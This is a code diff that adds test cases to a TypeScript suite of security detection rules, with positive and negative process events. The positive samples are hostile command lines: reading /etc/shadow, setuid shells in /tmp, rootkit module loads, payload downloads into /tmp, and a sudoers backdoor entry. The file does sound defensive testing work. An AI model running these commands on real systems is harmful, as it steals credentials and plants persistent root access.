@@ -499,6 +499,26 @@ const CASES: Record<string, Case> = {
     positive: [cloudtrail('ModifySnapshotAttribute', ROLE, '2026-11-23T10:00:00Z', { eventSource: 'ec2.amazonaws.com', requestParameters: { snapshotId: 'snap-1', createVolumePermission: { add: { items: [{ userId: '999999999999' }] } } } })],
     negative: [cloudtrail('DescribeSnapshotAttribute', ROLE, '2026-11-23T10:00:00Z', { eventSource: 'ec2.amazonaws.com' })],
   },
+  'Password Hash File Read': {
+    positive: [ecsProc('cat', 'cat /etc/shadow'), 'type=EXECVE msg=audit(1604994496.155:92733): argc=3 a0="cp" a1="/etc/shadow" a2="/tmp/s"'],
+    negative: [ecsProc('passwd', 'passwd /etc/shadow'), ecsProc('cat', 'cat /etc/hosts')],
+  },
+  'Setuid Or Setgid Bit Set On A File': {
+    positive: [ecsProc('chmod', 'chmod u+s /tmp/bash'), ecsProc('chmod', 'chmod 4755 /tmp/rootsh')],
+    negative: [ecsProc('chmod', 'chmod 755 /usr/local/bin/tool'), ecsProc('chmod', 'chmod +x run.sh')],
+  },
+  'Kernel Module Loaded By Command': {
+    positive: [ecsProc('insmod', 'insmod /tmp/diamorphine.ko'), ecsProc('modprobe', 'modprobe -v /tmp/rk/reptile_module.ko')],
+    negative: [ecsProc('modprobe', 'modprobe br_netfilter'), ecsProc('lsmod', 'lsmod')],
+  },
+  'Program Downloaded To A Temporary Folder': {
+    positive: [ecsProc('wget', 'wget http://198.51.100.7/x -O /tmp/x'), ecsProc('curl', 'curl -s http://198.51.100.7/k -o /dev/shm/k'), ecsProc('chmod', 'chmod +x /tmp/x')],
+    negative: [ecsProc('wget', 'wget https://example.com/release.tar.gz'), ecsProc('chmod', 'chmod +x ./build.sh')],
+  },
+  'Sudo Rights Granted': {
+    positive: [ecsProc('usermod', 'usermod -aG sudo backdoor'), ecsProc('bash', "bash -c echo 'backdoor ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers")],
+    negative: [ecsProc('usermod', 'usermod -aG docker alice'), ecsProc('cat', 'cat /etc/sudoers')],
+  },
   'Known Offensive Tool Executed': {
     positive: [proc('C:\\Users\\alice\\Downloads\\mimikatz.exe', 'mimikatz.exe "privilege::debug" exit')],
     negative: [proc('C:\\Windows\\System32\\notepad.exe', 'notepad.exe C:\\notes.txt')],
